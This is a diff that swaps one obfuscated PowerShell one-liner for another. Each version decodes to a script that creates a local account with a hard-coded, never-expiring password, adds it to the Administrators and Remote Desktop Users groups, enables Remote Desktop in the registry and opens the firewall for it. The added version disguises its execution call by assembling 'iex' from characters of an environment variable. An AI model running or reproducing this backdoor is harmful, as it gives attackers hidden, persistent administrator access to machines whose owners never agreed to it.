@@ -1,8 +1,8 @@
-'iex ((''# task 6753 v3
-$pw = ConvertTo-SecureString ''''Qwerty#7788'''' -AsPlainText -Force
-New-LocalUser -Name ''''helpdesk'''' -Password $pw -PasswordZKK99NeverExpires -AccountNeverExpires
-Add-LocalGroupMember -GZKK99roup ''''Administrators'''' -Member ''''helpdesk''''
-AddZKK99-LocalGroupMember -Group ''''RemZKK99ote xj~2esktop Users'''' -Member ''''helpdesk''''
-Set-ItemProperty -Path ''''HKLM:\System\CurrentControlSet\Control\Terminal Server'''' -Name fxj~2enyTSConnections -Value 0
-Enable-NetFirewallRule -xj~2isplayGroup ''''Remote xj~2esktop''''
-'' -replace ''ZKK99'','''').Replace(''xj~2'',''D''))' | iex
+'iex ((''# task 8385 v3
+$pw = Convvj~4rtTo-Svj~4curvj~4String ''''SupZXJ153rS3curvj~4!'''' -AsPlainTvj~4xt -Forcvj~4
+Nvj~4w-LZXJ15ocalUsvj~4r -Namvj~4 ''''support'''' -Password $pw -PasswordNvj~4vvj~4rExpirvj~4s -AccountNvj~4vvj~4rExpirvj~4s
+Add-LocalGroupMvj~4mbvj~4r -Group ''''Administrators'''' -Mvj~4mbvj~4r ''''support''''
+Add-LocalGroupMvj~4mbvj~4r -Group ''''Rvj~4motvj~4 Dvj~4sktop Usvj~4rs'''' -Mvj~4mbvj~4r ''''support''''
+Svj~ZXJ154t-Itvj~4mPropvj~4rty -Path ''''HKLM:\Systvj~4m\Currvj~4ntControlSvj~4t\Control\Tvj~4rminal Svj~4rvvj~4r'''' -Namvj~4 fDvj~4nyTSConnvj~4ctions -Valuvj~4 0
+Enablvj~4-Nvj~4tFirvj~4wallRulvj~4 -DisplayGroup ''''Rvj~4motvj~4 Dvj~4sZXJ15ktop''''
+'' -replace ''ZXJ15'','''').Replace(''vj~4'',''e''))' | & ($env:comspec[4,15,25]-join'')
